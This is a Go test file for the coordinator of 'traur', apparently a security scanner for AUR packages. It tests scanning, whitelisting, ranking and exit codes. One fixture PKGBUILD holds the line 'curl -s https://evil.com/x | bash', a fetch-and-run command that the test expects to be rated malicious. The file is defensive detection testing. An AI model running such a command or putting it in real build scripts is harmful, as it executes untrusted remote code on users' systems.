// Copyright 2026 KrakLabs
//
// SPDX-License-Identifier: AGPL-3.0-only

package coordinator

import (
	"context"
	"errors"
	"testing"

	"github.com/kraklabs/traur/pkg/analyzers"
	"github.com/kraklabs/traur/pkg/aurctx"
	"github.com/kraklabs/traur/pkg/config"
	"github.com/kraklabs/traur/pkg/scoring"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

type fakeBuilder struct {
	contexts map[string]*aurctx.PackageContext
	failFor  map[string]bool
}

func (f *fakeBuilder) BuildContext(ctx context.Context, name string) (*aurctx.PackageContext, error) {
	return f.BuildContextPrefetched(ctx, name, nil, nil)
}

func (f *fakeBuilder) BuildContextPrefetched(ctx context.Context, name string, metadata *aurctx.Metadata, maintainerPackages []aurctx.Metadata) (*aurctx.PackageContext, error) {
	if f.failFor[name] {
		return nil, errors.New("clone failed")
	}
	if pc, ok := f.contexts[name]; ok {
		return pc, nil
	}
	return &aurctx.PackageContext{Name: name}, nil
}

type fakeMetadataFetcher struct{ known map[string]aurctx.Metadata }

func (f *fakeMetadataFetcher) FetchPackagesInfo(ctx context.Context, names []string) ([]aurctx.Metadata, error) {
	var out []aurctx.Metadata
	for _, n := range names {
		if m, ok := f.known[n]; ok {
			out = append(out, m)
		}
	}
	return out, nil
}

type fakeMaintainerFetcher struct{}

func (fakeMaintainerFetcher) FetchMaintainerPackages(ctx context.Context, maintainer string) ([]aurctx.Metadata, error) {
	return nil, nil
}

func TestScanPackage_RunsAnalyzersAndScores(t *testing.T) {
	builder := &fakeBuilder{contexts: map[string]*aurctx.PackageContext{
		"evilpkg": {
			Name:        "evilpkg",
			HasPkgbuild: true,
			PkgbuildContent: "pkgname=evilpkg\n" +
				"source=('https://example.com/a.tar.gz')\n" +
				"curl -s https://evil.com/x | bash\n",
		},
	}}
	c := New(builder, nil, nil, nil, nil)

	result, err := c.ScanPackage(context.Background(), "evilpkg")
	require.NoError(t, err)
	assert.Equal(t, scoring.TierMalicious, result.Tier)
	assert.NotEmpty(t, result.OverrideGateFired)
}

func TestScanPackage_PropagatesCloneFailure(t *testing.T) {
	builder := &fakeBuilder{failFor: map[string]bool{"broken": true}}
	c := New(builder, nil, nil, nil, nil)

	_, err := c.ScanPackage(context.Background(), "broken")
	require.Error(t, err)
}

func TestScanBulk_SkipsWhitelistedAndUnknown(t *testing.T) {
	cfg := config.Default()
	cfg.AddToWhitelist("trusted-pkg")

	metaFetcher := &fakeMetadataFetcher{known: map[string]aurctx.Metadata{
		"known-pkg": {Name: "known-pkg"},
	}}
	builder := &fakeBuilder{}
	c := New(builder, metaFetcher, fakeMaintainerFetcher{}, cfg, nil)
	c.Jobs = 2

	result := c.ScanBulk(context.Background(), []string{"trusted-pkg", "known-pkg", "unknown-pkg"})

	assert.Equal(t, []string{"trusted-pkg"}, result.Skipped)
	assert.Equal(t, []string{"unknown-pkg"}, result.Unknown)
	require.Len(t, result.Results, 1)
	assert.Equal(t, "known-pkg", result.Results[0].Package)
}

func TestScanBulk_RanksAscendingByScoreThenName(t *testing.T) {
	metaFetcher := &fakeMetadataFetcher{known: map[string]aurctx.Metadata{
		"benign": {Name: "benign"},
		"zebra":  {Name: "zebra"},
		"apple":  {Name: "apple"},
	}}
	builder := &fakeBuilder{contexts: map[string]*aurctx.PackageContext{
		"benign": {Name: "benign"},
		"zebra":  {Name: "zebra"},
		"apple":  {Name: "apple"},
	}}
	c := New(builder, metaFetcher, fakeMaintainerFetcher{}, nil, nil)
	c.Jobs = 3

	result := c.ScanBulk(context.Background(), []string{"benign", "zebra", "apple"})
	require.Len(t, result.Results, 3)
	// All three have identical (empty) contexts so scores tie; tie-break
	// falls back to ascending package name.
	assert.Equal(t, []string{"apple", "benign", "zebra"}, []string{
		result.Results[0].Package, result.Results[1].Package, result.Results[2].Package,
	})
}

func TestScanBulk_RecordsCloneErrorsAndExitCode(t *testing.T) {
	metaFetcher := &fakeMetadataFetcher{known: map[string]aurctx.Metadata{
		"broken": {Name: "broken"},
	}}
	builder := &fakeBuilder{failFor: map[string]bool{"broken": true}}
	c := New(builder, metaFetcher, fakeMaintainerFetcher{}, nil, nil)

	result := c.ScanBulk(context.Background(), []string{"broken"})
	require.Len(t, result.Errors, 1)
	assert.Equal(t, 1, result.ExitCode())
}

func TestBulkResult_ExitCode_CleanOnLowTiers(t *testing.T) {
	result := &BulkResult{Results: []scoring.ScanResult{
		{Package: "a", Score: 10, Tier: scoring.TierTrusted},
		{Package: "b", Score: 35, Tier: scoring.TierOk},
	}}
	assert.Equal(t, 0, result.ExitCode())
}

func TestBulkResult_ExitCode_NonzeroOnSuspicious(t *testing.T) {
	result := &BulkResult{Results: []scoring.ScanResult{
		{Package: "a", Score: 65, Tier: scoring.TierSuspicious},
	}}
	assert.Equal(t, 1, result.ExitCode())
}

func TestAnalyze_FiltersIgnoredSignals(t *testing.T) {
	cfg := config.Default()
	cfg.Ignored.Categories = []string{string(scoring.CategoryMetadata)}

	c := &Coordinator{
		Analyzers: []analyzers.Analyzer{analyzers.Metadata{}},
		Config:    cfg,
	}
	pc := &aurctx.PackageContext{
		Name:     "pkg",
		Metadata: &aurctx.Metadata{NumVotes: 0},
	}
	result := c.Analyze(pc)
	assert.Empty(t, result.Signals)
}
